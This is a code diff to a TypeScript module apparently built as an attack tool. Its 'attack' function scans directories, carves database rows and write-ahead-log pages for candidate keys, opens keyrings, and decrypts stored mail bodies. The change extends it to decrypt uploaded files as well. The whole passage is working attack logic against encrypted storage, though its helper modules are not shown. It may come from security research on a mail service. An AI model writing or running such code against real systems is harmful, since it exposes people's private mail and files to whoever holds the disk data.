@@ -7,7 +7,8 @@ import { open, readFile, readdir } from 'node:fs/promises'
 import { join } from 'node:path'
 import { Carver, ROW_BYTES_MAX, type CarvedRow } from './carve.ts'
 import { type Candidate, KeySearch } from './key-search.ts'
-import { CHUNK_BYTES, openColumns, openSpooled } from './mail.ts'
+import { openColumns, openSpooled } from './mail.ts'
+import { CHUNK_BYTES, openUploads } from './upload.ts'
 import { isSegment, withoutPageHeads } from './write-ahead-log.ts'
 
 export interface Loot {
@@ -26,22 +27,23 @@ export interface Spoils {
 
 /** Bytes of a file that are searched at once. */
 const STRETCH_BYTES = 64 * 1024 * 1024
-const SPOOLED = /^[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}$/
+/** Bodies of mails and uploaded files have random names. */
+const NAMELESS = /^[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}$/
 
 export async function attack({ directories, keyrings }: Loot): Promise<Spoils> {
   const carver = new Carver()
-  const spooled: Buffer[] = []
+  const files: Buffer[] = []
   const seen = new Set<string>()
   for (const directory of directories)
     for (const { path, name } of await filesBelow(directory)) {
-      if (SPOOLED.test(name)) spooled.push(await readStart(path, CHUNK_BYTES))
+      if (NAMELESS.test(name)) files.push(await readStart(path, CHUNK_BYTES))
       await searchFile(carver, path, name, seen)
     }
   const search = new KeySearch(candidates(carver))
   const plaintexts: Buffer[] = []
   for (const path of keyrings)
     for (const { row, plaintext } of search.openWith(await readFile(path)))
-      plaintexts.push(plaintext, ...openMail(plaintext, row, spooled))
+      plaintexts.push(plaintext, ...openMail(plaintext, row, files), ...openUploads(plaintext, files))
   return { rows: carver.rows.size, plaintexts }
 }
 
@@ -53,9 +55,9 @@ function* candidates(carver: Carver): Iterable<Candidate> {
 }
 
 /** When what was opened may be the key of a mail: what that opens. */
-function openMail(key: Buffer, { rest }: CarvedRow, spooled: readonly Buffer[]): Buffer[] {
+function openMail(key: Buffer, { rest }: CarvedRow, files: readonly Buffer[]): Buffer[] {
   if (key.length !== 32) return []
-  return [...openColumns(key, rest), ...spooled.flatMap((file) => openSpooled(key, file) ?? [])]
+  return [...openColumns(key, rest), ...files.flatMap((file) => openSpooled(key, file) ?? [])]
 }
 
 async function filesBelow(directory: string): Promise<{ path: string; name: string }[]> {
